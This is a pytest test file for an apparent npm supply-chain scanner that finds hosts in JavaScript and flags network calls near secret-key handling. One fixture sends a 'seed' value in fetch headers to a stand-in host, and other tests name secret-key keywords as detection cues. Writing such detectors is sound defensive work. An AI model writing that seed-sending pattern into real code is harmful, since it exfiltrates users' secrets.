"""Hosts in code, and secret keys beside them."""

from __future__ import annotations

import time

import pytest

from npmguard.code.hosts import deeds, find


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("fetch('https://a.example.test/x')", ["a.example.test"]),
        ('ws = new WebSocket("wss://B.example.test:80")', ["b.example.test"]),
        ("`http://192.0.2.1/${x}`", ["192.0.2.1"]),
        ("'https://a.example.test'; 'https://a.example.test/'", ["a.example.test"]),
        ("// see https://docs.example.test/", []),
        ("'see https://docs.example.test/'", []),
        ("`https://${host}/`", []),
        ("'http://localhost:80'", []),
        ("'http://www.w3.org/2000/svg'", []),
        ("", []),
    ],
)
def test_the_urls_that_begin_a_text(text: str, hosts: list[str]) -> None:
    assert find(text.encode()) == hosts


def test_a_call_beside_a_secret_key() -> None:
    text = b"\nfunction f(seed) { fetch('https://a.example.test/', { headers: { a: seed } }) }"
    told = list(deeds(text, "w.js"))
    assert [(deed.path, deed.line, deed.what) for deed in told] == [
        ("w.js", 2, "it calls a.example.test where secret keys are handled")
    ]


@pytest.mark.parametrize(
    "text",
    [
        "const home = 'https://a.example.test/'; function f(seed) {}",  # written, not called
        "fetch('https://a.example.test/')" + " " * 2000 + "privateKey",  # far away
        "fetch('https://a.example.test/', { method: 'POST', body: name })",
        "fetch('https://a.example.test/seeding')",
    ],
)
def test_what_is_no_such_call(text: str) -> None:
    assert list(deeds(text.encode(), "a.js")) == []


def test_hostile_texts_take_no_time() -> None:
    began = time.perf_counter()
    for text in (
        b"'https://" * 200_000,
        b"'https://" + b"a." * 500_000,
        b"fetch(" * 200_000 + b"'https://a.test/",
    ):
        find(text)
        list(deeds(text, "a.js"))
    assert time.perf_counter() - began < 3
